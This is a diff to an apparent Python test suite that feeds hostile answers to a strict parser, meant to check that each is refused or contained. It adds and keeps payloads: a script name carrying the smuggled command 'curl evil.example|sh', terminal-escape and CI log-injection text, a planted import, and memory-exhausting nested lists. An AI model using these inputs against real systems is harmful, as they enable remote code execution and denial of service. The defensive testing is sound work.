@@ -14,12 +14,24 @@ STRICT = "the answer is parsed strictly"
 BROKEN = "breaks the contract"
 HOSTILE_TEXT = r"\u001b]0;x\u0007\u001b[2J\u2028::error::x\r\n::add-mask::x"
 
-CHANGES: dict[str, tuple[str, Callable[[str], str], str]] = {
+COUNTEREXAMPLE = {"family": "", "seed": 0, "inputs": [], "npz": None, "script": None, "saved": "ok"}
+
+CHANGES: dict[str, tuple[str, Callable[[str], str], str | None]] = {
     "deep nesting": ("an answer of 200,000 nested lists", lambda good: "[" * 200_000, BROKEN),
     "huge number": ("a line number of 10,000 digits", lambda good: put(good, "line", "9" * 10_000), BROKEN),
+    "number of 400 digits": (
+        "a difference that is a whole number of 400 digits, which no float can be",
+        lambda good: put(good, "max_abs", "9" * 400),
+        BROKEN,
+    ),
     "infinite number": ("a difference of 1e999", lambda good: put(good, "max_abs", "1e999"), BROKEN),
     "not a number": ("a difference of NaN", lambda good: put(good, "max_abs", "NaN"), BROKEN),
     "duplicate keys": ("a status that stands twice", lambda good: good[:-1] + ', "status": "ok"}', BROKEN),
+    "millions of lists": (
+        "15 MB of empty lists, which take 30 times as much memory",
+        lambda good: f"[{'[],' * 5_000_000}[]]",
+        BROKEN,
+    ),
     "long string": ("a reason of 10 MB", lambda good: put(good, "reason", f'"{"x" * 10**7}"'), BROKEN),
     "a place outside": (
         "a place in a file of the host",
@@ -30,6 +42,23 @@ CHANGES: dict[str, tuple[str, Callable[[str], str], str]] = {
         "a program attached, to be saved where someone runs it",
         lambda good: put(good, "attached", '{"read": [], "npz": "AAAA", "script": "import planted"}'),
         "",
+    ),
+    "a place of no possible name": (
+        "a place in a file whose name is too long for any file system",
+        lambda good: put(put(good, "path", f'"{"x" * 300}"'), "line", "1"),
+        "",
+    ),
+    "a program by its name": (
+        "the name of a program that people are told to run, to see the failure for themselves",
+        lambda good: put(
+            good, "counterexample", json.dumps({**COUNTEREXAMPLE, "script": "x.py; curl evil.example|sh"})
+        ),
+        BROKEN,
+    ),
+    "figures that are none": (
+        "the time and size of an export that are no numbers, for the charts of the report",
+        lambda good: put(good, "checks", '{"latency": "e.e ms, eager - ms", "ort-format": ", bytes of ,"}'),
+        None,
     ),
     "half a surrogate": ("half a character in the reason", lambda good: put(good, "reason", r'"\ud800"'), BROKEN),
     "two answers": ("a second answer behind the first", lambda good: good + good, BROKEN),
@@ -68,7 +97,10 @@ def forger(change: Callable[[str], str]) -> Callable[[], object]:
     return run
 
 
+OUTSIDE = {"docker": "places are held against the copy; nothing attached is kept"}
+SHOWN = dict.fromkeys(("docker", "process"), "what is no figure is drawn in no chart")
+REFUSED = dict.fromkeys(("docker", "process"), STRICT)
+
 for _name, (_tries, _change, _ends) in CHANGES.items():
-    _boxes = ("docker", "process") if _ends else ("docker",)
-    _stopped = dict.fromkeys(_boxes, STRICT if _ends else "places are held against the copy; nothing attached is kept")
-    ATTACKS[_name] = Attack(_name, f"answer with {_tries}", _stopped, _ends, 30.0, forger(_change))
+    _stopped = SHOWN if _ends is None else REFUSED if _ends else OUTSIDE
+    ATTACKS[_name] = Attack(_name, f"answer with {_tries}", _stopped, _ends or "", 30.0, forger(_change))
